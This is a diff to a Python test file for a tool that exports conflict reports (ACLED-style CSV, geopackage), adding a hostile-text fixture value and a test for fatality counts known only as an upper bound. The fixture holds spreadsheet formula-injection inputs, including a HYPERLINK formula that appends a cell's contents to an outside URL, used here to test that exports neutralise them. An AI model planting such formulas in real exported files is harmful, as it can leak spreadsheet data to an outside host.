@@ -26,6 +26,7 @@ from geo.frame import as_event_frame, as_report_frame, as_reports
 from reports.merge import merge_reports
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
+NAME = "=<b>Goris</b>\x01\x0b"
 
 
 @pytest.fixture
@@ -33,7 +34,7 @@ def hostile(reports: pd.DataFrame) -> View:
     """The view with formulas, markup and control characters in every text of the articles."""
     told = [
         replace(
-            row, quote=FORMULA, article_title="@SUM(A1)", claimed_by="+<b>x</b>\x01", location=row.location and FORMULA
+            row, quote=FORMULA, article_title="@SUM(A1)", claimed_by="+<b>x</b>\x01", location=row.location and NAME
         )
         for row in as_reports(reports)
     ]
@@ -57,6 +58,15 @@ def test_acleds_columns_in_acleds_order(view: View) -> None:
     assert by_place.loc["Goris", ["iso", "disorder_type"]].tolist() == ["51", "Political violence"]
     assert "denied by=Azerbaijan" in by_place.loc["Jermuk", "tags"] or "denied by=AZ" in by_place.loc["Jermuk", "tags"]
     assert "said by Ministry of Defence of Armenia" in by_place.loc["Goris", "notes"]
+
+
+def test_a_toll_known_only_as_a_highest_number_is_kept(reports: pd.DataFrame) -> None:
+    """ "Up to twenty dead" leaves ACLED's fatalities empty and is told among the tags."""
+    told = [replace(row, fatalities_low=None, fatalities_high=20) for row in as_reports(reports)]
+    merged, events = merge_reports(told)
+    made = as_acled_csv(make_view(as_event_frame(events), as_report_frame(merged), Filters()))
+    table = pd.read_csv(io.BytesIO(made), dtype=str, keep_default_na=False).set_index("location")
+    assert table.loc["Goris", "fatalities"] == "" and "fatalities at most=20" in table.loc["Goris", "tags"]
 
 
 def test_a_geopackage_opens_in_gdal(view: View, tmp_path: Path) -> None:
